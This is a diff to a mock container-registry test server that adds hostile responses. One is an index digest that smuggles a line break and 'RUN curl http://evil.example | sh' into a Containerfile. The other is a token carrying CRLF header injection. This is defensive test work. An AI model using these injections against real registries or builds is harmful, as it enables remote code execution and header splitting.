@@ -6,6 +6,9 @@ service hands out a token anonymously for "test/public", and for "test/private" 
 basic credentials alice:s3cret.
 
 Serves one manifest per repository at tag "v1"; its digest is in Docker-Content-Digest.
+Hostile answers, each for anonymous pulls: "test/injected-index" is an index whose platform
+entry's digest carries a line break and a Containerfile instruction, and the token service
+answers "test/newline-token" with a token holding a line break and another header.
 Usage: auth_registry.py PORT"""
 import base64
 import hashlib
@@ -20,9 +23,15 @@ MANIFESTS = {
                       "config": {"mediaType": "application/vnd.oci.image.config.v1+json",
                                  "digest": "sha256:" + hashlib.sha256(repo.encode()).hexdigest(), "size": 2},
                       "layers": []}).encode()
-    for repo in ("test/public", "test/private")
+    for repo in ("test/public", "test/private", "test/newline-token")
 }
-TOKENS = {"test/public": "tok-public", "test/private": "tok-private"}
+MANIFESTS["test/injected-index"] = json.dumps({
+    "schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json",
+    "manifests": [{"mediaType": "application/vnd.oci.image.manifest.v1+json", "size": 2,
+                   "digest": "sha256:" + "0" * 64 + "\nRUN curl http://evil.example | sh",
+                   "platform": {"os": "linux", "architecture": "amd64"}}]}).encode()
+TOKENS = {"test/public": "tok-public", "test/private": "tok-private",
+          "test/injected-index": "tok-index", "test/newline-token": "tok\r\nX-Injected: 1"}
 
 
 class Registry(http.server.BaseHTTPRequestHandler):
